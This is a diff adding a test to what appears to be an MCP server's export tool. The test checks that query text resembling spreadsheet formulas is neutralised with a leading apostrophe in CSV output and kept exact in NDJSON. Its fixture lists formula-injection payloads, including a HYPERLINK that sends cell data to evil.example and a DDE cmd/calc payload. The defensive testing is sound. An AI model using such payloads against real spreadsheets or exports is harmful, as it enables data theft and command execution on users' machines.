@@ -218,6 +218,39 @@ describe('all_rows: an export under the cap', () => {
   });
 });
 
+// Query text is typed by the public. Google's page of rows is replaced (a 200 fault, matched on the
+// export's 25 000-row pages) by rows whose queries a spreadsheet would run as formulas.
+describe('an export of queries that look like spreadsheet formulas', () => {
+  const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"prices")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', 'plain query', "'already quoted"];
+  const rows = HOSTILE.map((query, i) => ({ keys: [query], clicks: 10 - i, impressions: 100, ctr: (10 - i) / 100, position: 1.5 + i }));
+
+  it('neutralises them in the CSV (quoted, with a leading apostrophe), keeps the NDJSON exact, and the resource says which is which', async () => {
+    google.emulator.reset();
+    google.emulator.injectFault({ route: 'searchanalytics.query', status: 200, body: { rows, responseAggregationType: 'byProperty' }, bodyMatches: { rowLimit: 25000 } });
+    const made = await client.call(TOOL, { site_url: OWNED, ...WINDOW, dimensions: ['query'], all_rows: true });
+    expect(made.isError).toBeFalsy();
+    const { csv, ndjson } = made.structuredContent!.export;
+
+    const [header, ...records] = parseCsv((await readResource(client, csv)).text);
+    expect(header).toEqual(['query', 'clicks', 'impressions', 'ctr', 'position']);
+    const cells = records.map((r) => r[0]);
+    expect(cells).toEqual(HOSTILE.map((q) => (/^[=+\-@\t\r]/.test(q) ? `'${q}` : q)));
+    // No cell a spreadsheet reads starts a formula; numbers stay numbers.
+    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(records.map((r) => Number(r[1]))).toEqual(rows.map((r) => r.clicks));
+    // The raw CSV quotes every neutralised cell, as OWASP advises.
+    expect((await readResource(client, csv)).text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""prices"")",10,`);
+
+    const lines = (await readResource(legacy, ndjson)).text.trimEnd().split('\n').map((l) => JSON.parse(l));
+    expect(lines.map((l) => l.query)).toEqual(HOSTILE);
+
+    const { resourceTemplates } = await client.raw.listResourceTemplates();
+    const template = resourceTemplates.find((t: any) => t.name === 'exports');
+    expect(template.description).toMatch(/CSV is for spreadsheets: a text cell that starts with =, \+, -, @, a tab or a carriage return is written with a leading apostrophe/);
+    expect(template.description).toMatch(/NDJSON carries Google's values exactly/);
+  });
+});
+
 describe('exports belong to the principal who asked', () => {
   // Two people on one server (one Nest app, one state store): the app's McpServerFactory builds each
   // one's server with their own authInfo.clientId, as the HTTP layer does for authenticated requests.
